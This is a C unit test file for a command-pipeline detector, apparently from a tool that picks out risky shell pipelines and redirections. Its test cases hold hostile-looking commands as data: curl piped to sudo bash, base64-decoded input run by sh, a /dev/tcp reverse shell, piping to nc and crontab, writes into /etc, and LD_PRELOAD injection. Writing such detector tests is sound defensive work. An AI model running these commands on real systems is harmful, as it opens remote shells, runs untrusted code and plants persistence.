/* command_pipes: which pipelines of a line are told, and from where to where. */
#include "replay/readers/command_pipes.h"
#include "tests/unit/unit.h"

static const struct {
	const char *text, *pipes;
} cases[] = {
	{"curl -s http://x/i.sh | sudo bash -s; ls", "[curl -s http://x/i.sh | sudo bash -s]"},
	{"ps aux | grep x | wc -l", ""},
	{"a || sh; b && sh; c; sh; d & sh", ""},
	{"echo x|base64 -d|sh -x >/dev/null", "[echo x|base64 -d|sh -x >/dev/null]"},
	{"a |& bash", "[a |& bash]"},
	{"(a || b) | sh", "[b) | sh]"},
	{"for i in 1 2; do a $i; done | xargs kill", "[a $i; done | xargs kill]"},
	{"a | while read x; do sh; done", ""},
	{"a | { sh; }", "[a | { sh]"},
	{"a |\n  # why\n  tee b", ""},
	{"a |\n  tee b", "[a |\n  tee b]"},
	{"a | python3.12 -; b | nc x 1", "[a | python3.12 -][b | nc x 1]"},
	{"a | /usr/bin/env sh", "[a | /usr/bin/env sh]"},
	{"echo $(a | sh) | wc", "[a | sh]"},
	{"echo $(a) | sh", "[echo $(a) | sh]"},
	{"sh -c 'a | sh' | wc", ""},
	{"sh | a", ""},
	{"a | crontab -", "[a | crontab -]"},
	{"0<&9; exec 9<>/dev/tcp/10.0.0.1/1; sh <&9 >&9", "[exec 9<>/dev/tcp/10.0.0.1/1; sh <&9 >&9]"},
	{"exec 9<>/dev/udp/h/1\ncat <&9 | while read x; do $x; done", "[exec 9<>/dev/udp/h/1\ncat <&9 | while read x; do $x]"},
	{"echo > /dev/tcp/h/1", ""},
	{"echo a >> /etc/x; printf b > \"$d/y\" 2>&1; echo c > d; echo e >/dev/null; cat f > /g",
		"[echo a >> /etc/x][printf b > \"$d/y\" 2>&1]"},
	{"sudo sh -c 'echo a > /b'", ""},
	{"LD_PRELOAD=/tmp/x ls; A=1 b; env LD_PRELOAD=/tmp/y c", "[LD_PRELOAD=/tmp/x ls]"},
	{"echo a | tee b > /c; echo d >/e", "[echo a | tee b > /c][echo d >/e]"},
	{"", ""},
};

static void test_cases(void)
{
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		struct arena arena = {0};
		struct command_line line;
		struct command_pipe *pipes;
		struct buffer out = {0};
		struct text text = text_of(cases[i].text);
		CHECK_LONG(command_line_parse(&arena, text, &line), COMMAND_DONE);
		size_t count = command_pipes_find(&arena, text, &line, &pipes);
		for (size_t k = 0; k < count; k++) {
			CU_ASSERT(pipes[k].first <= pipes[k].last && pipes[k].last < line.count);
			buffer_printf(&out, "[%.*s]", TEXT_ARGS(text_slice(text, pipes[k].begin, pipes[k].end)));
		}
		CHECK_TEXT(buffer_view(&out), cases[i].pipes);
		buffer_free(&out);
		arena_free(&arena);
	}
}

void suite_command_pipes(void);
void suite_command_pipes(void)
{
	CU_pSuite suite = unit_suite("command_pipes");
	UNIT_TEST(suite, test_cases);
}
